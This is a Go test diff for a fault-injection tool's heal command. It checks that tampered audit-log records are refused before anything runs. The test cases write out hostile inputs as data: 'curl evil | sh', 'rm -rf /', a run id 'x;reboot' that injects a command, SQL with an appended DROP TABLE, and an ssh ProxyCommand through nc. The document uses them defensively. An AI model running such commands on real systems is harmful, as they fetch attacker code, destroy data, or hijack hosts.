@@ -95,3 +95,79 @@ func TestReadUnhealedRefusesGarbage(t *testing.T) {
 	_, err := ReadUnhealedFile("/nonexistent/inject.log")
 	assert.ErrorIs(t, err, os.ErrNotExist)
 }
+
+// Issue 49: the audit log is a file anyone who can write it can edit (./csconform-inject.log by
+// default). A plan record's heal steps run only if they are the ones inject makes for the record's
+// fault, on hosts and targets the allowlist heal is given allows, with the ssh rules inject applies
+// (ProxyCommand, a shared connection); one refused run refuses all, before anything runs, dry run
+// or not.
+func TestHealRefusesWhatInjectWouldNot(t *testing.T) {
+	step := func(h string, argv ...string) Step { return Step{Host: h, Argv: argv} }
+	agent := func(h string) []Step { return []Step{step(h, "systemctl", "start", "cloudstack-agent")} }
+	disarm := func(h, id string) []Step { return []Step{step(h, "systemctl", "stop", "csconform-heal-"+id+".timer")} }
+	sql := "UPDATE networks SET created = created + INTERVAL 90000 SECOND WHERE uuid = '00000000-1111' AND removed IS NULL"
+	good := Unhealed{ID: "good", Fault: AgentRestart, Target: "host:stage-1", Heal: agent("stage-1"), Disarm: disarm("stage-1", "good")}
+	for _, c := range []struct {
+		name    string
+		run     Unhealed
+		resolve map[string]Endpoint
+		want    string
+	}{
+		{"a command inject never heals with", Unhealed{ID: "x", Fault: AgentRestart, Heal: []Step{step("stage-1", "sh", "-c", "curl evil | sh")}, Disarm: disarm("stage-1", "x")},
+			nil, `not the ones inject makes for agent-restart on host:stage-1: "stage-1: sh -c 'curl evil | sh'"`},
+		{"a step added", Unhealed{ID: "x", Fault: AgentRestart, Heal: append(agent("stage-1"), step("stage-1", "rm", "-rf", "/")), Disarm: disarm("stage-1", "x")},
+			nil, `"stage-1: rm -rf /"`},
+		{"a disarm that stops something else", Unhealed{ID: "x", Fault: AgentRestart, Heal: agent("stage-1"), Disarm: []Step{step("stage-1", "systemctl", "stop", "sshd")}},
+			nil, `"stage-1: systemctl stop sshd"`},
+		{"a host outside the allowlist", Unhealed{ID: "x", Fault: AgentRestart, Heal: agent("prod-db1"), Disarm: disarm("prod-db1", "x")},
+			nil, "host:prod-db1 is not allowlisted: host prod-db1 matches no --allow-host pattern"},
+		{"a run id that is a shell word", Unhealed{ID: "x;reboot", Fault: AgentRestart, Heal: agent("stage-1"), Disarm: disarm("stage-1", "x;reboot")},
+			nil, `bad run id "x;reboot"`},
+		{"SQL added to backdate's", Unhealed{ID: "x", Fault: Backdate, Heal: []Step{step("stage-db", "mysql", "cloud", "-e", sql+"; DROP TABLE vm_instance")}},
+			nil, "backdate needs"},
+		{"a network outside the allowlist", Unhealed{ID: "x", Fault: Backdate, Heal: []Step{step("stage-db", "mysql", "cloud", "-e", strings.Replace(sql, "00000000", "99999999", 1))}},
+			nil, "network:99999999-1111 is not allowlisted"},
+		{"a domain that is not a router", Unhealed{ID: "x", Fault: SlowRouterBoot, Heal: []Step{step("stage-1", "virsh", "-c", "qemu:///system", "resume", "i-2-5-VM")}},
+			nil, `"i-2-5-VM" is not a router`},
+		{"an unknown fault", Unhealed{ID: "x", Fault: "wipe", Heal: agent("stage-1")}, nil, `unknown fault "wipe"`},
+		{"ssh through a ProxyCommand", good,
+			map[string]Endpoint{"stage-1": {HostName: "stage-1", User: "root", Port: "22", ProxyCommand: "nc prod1 22"}}, "ProxyCommand"},
+		{"ssh through a shared connection", good,
+			map[string]Endpoint{"stage-1": {HostName: "stage-1", User: "root", Port: "22", ControlPath: "/tmp/cm", ControlMaster: "auto"}}, `ControlPath "/tmp/cm" (ControlMaster auto)`},
+		{"an alias that leads outside", good,
+			map[string]Endpoint{"stage-1": {HostName: "prod-db1", User: "root", Port: "22"}}, "prod-db1 matches no --allow-host pattern"},
+	} {
+		t.Run(c.name, func(t *testing.T) {
+			for _, yes := range []bool{false, true} {
+				ex := &fakeExec{resolve: c.resolve}
+				in, _, out := newInjector(t, ex, yes)
+				// a run the allowlist lets through comes first: it must not run either
+				runs := []Unhealed{good, c.run}
+				if c.resolve != nil {
+					runs = runs[:1]
+				}
+				err := in.Heal(context.Background(), runs)
+				require.Error(t, err)
+				assert.True(t, strings.HasPrefix(err.Error(), "refused: "), err.Error())
+				assert.Contains(t, err.Error(), c.want)
+				assert.Contains(t, err.Error(), "nothing was run")
+				assert.Empty(t, ex.got(), "heal ran steps of a refused log")
+				assert.NotContains(t, out.String(), "would run", "a refused log's steps shown as if they would run")
+			}
+		})
+	}
+	// what inject makes, on allowed hosts, heals
+	ex := &fakeExec{}
+	in, _, _ := newInjector(t, ex, true)
+	in.Policy.MaxTargets = 2
+	p, err := Build(Spec{Fault: Disconnect, Hosts: []string{"stage-1", "stage-2"}, Duration: time.Minute, MgmtPort: 9250, ID: "ok"})
+	require.NoError(t, err)
+	b, err := Build(Spec{Fault: Backdate, Hosts: []string{"stage-db"}, Network: "00000000-1111", By: 25 * time.Hour, Duration: time.Minute, ID: "bd"})
+	require.NoError(t, err)
+	r, err := Build(Spec{Fault: SlowRouterBoot, Hosts: []string{"stage-1"}, VM: "r-4-VM", Duration: time.Minute, ID: "rb"})
+	require.NoError(t, err)
+	require.NoError(t, in.Heal(context.Background(), []Unhealed{good,
+		{ID: "ok", Fault: "cut-link", Heal: p.Heal, Disarm: p.Disarm},
+		{ID: "bd", Fault: Backdate, Heal: b.Heal}, {ID: "rb", Fault: SlowRouterBoot, Heal: r.Heal}}))
+	assert.Len(t, ex.got(), 2+len(p.Heal)+len(p.Disarm)+2)
+}
